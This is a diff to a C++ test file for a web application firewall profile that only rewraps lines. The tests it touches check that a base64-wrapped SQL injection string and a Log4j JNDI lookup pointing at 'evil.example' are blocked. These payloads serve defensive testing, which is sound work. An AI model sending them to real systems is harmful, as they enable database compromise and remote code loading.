@@ -56,7 +56,8 @@ class WafProfileTest : public GatewayTest {
 TEST_F(WafProfileTest, Base64WrappedInjectionInJsonIsBlockedAndTheIncidentSaysDecoded) {
   ASSERT_TRUE(start_with());
   // base64 of "1' OR '1'='1' -- ": nothing CRS reads as SQL.
-  HttpResponse blocked = send("POST", "/api/notes", R"({"id":7,"note":"MScgT1IgJzEnPScxJyAtLSA="})");
+  HttpResponse blocked =
+      send("POST", "/api/notes", R"({"id":7,"note":"MScgT1IgJzEnPScxJyAtLSA="})");
   ASSERT_EQ(blocked.status, 403) << blocked.body;
   EXPECT_EQ(origin_.request_count("/api/notes"), 0u);
   auto incident = incident_of(blocked);
@@ -85,8 +86,8 @@ TEST_F(WafProfileTest, ForumPostDiscussingSqlPasses) {
 
 TEST_F(WafProfileTest, Log4jLookupIsBlocked) {
   ASSERT_TRUE(start_with());
-  HttpResponse blocked =
-      http_request(port(), "GET", "/api/items", {{"X-Api-Version", "${jndi:ldap://evil.example/a}"}});
+  HttpResponse blocked = http_request(port(), "GET", "/api/items",
+                                      {{"X-Api-Version", "${jndi:ldap://evil.example/a}"}});
   ASSERT_EQ(blocked.status, 403) << blocked.body;
   auto incident = incident_of(blocked);
   ASSERT_TRUE(incident);
